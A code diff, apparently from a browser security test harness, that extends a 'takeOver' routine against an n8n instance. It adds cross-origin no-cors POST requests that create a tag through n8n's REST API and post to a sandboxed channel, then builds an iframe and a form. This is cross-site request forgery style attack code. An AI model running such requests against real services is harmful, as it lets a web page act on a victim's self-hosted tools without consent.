@@ -58,10 +58,13 @@ export async function takeOver({ n8n, service, passwords, mark }: Target): Promi
 	await attempt('read channel', async () =>
 		(await ask(`${service}/neighbours/channel`)).text.includes('messages'),
 	);
+	const send = (address: string, body: BodyInit) =>
+		ask(address, { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
+	// What a page may always send, as it is a form's, or a text: only the answer would be kept from it.
+	await send(`${n8n}/rest/tags`, new URLSearchParams({ name: mark }));
 	const channel = `${service}/neighbours/slack/T000/B000/sandbox`;
 	const message = JSON.stringify({ text: mark });
-	// What a page may always send, as it is a form's, or a text: only the answer would be kept from it.
-	await ask(channel, { method: 'POST', mode: 'no-cors', body: message }).catch(() => undefined);
+	await send(channel, message);
 	const frame = document.body.appendChild(document.createElement('iframe'));
 	frame.name = `frame-${mark}`;
 	const form = document.body.appendChild(document.createElement('form'));
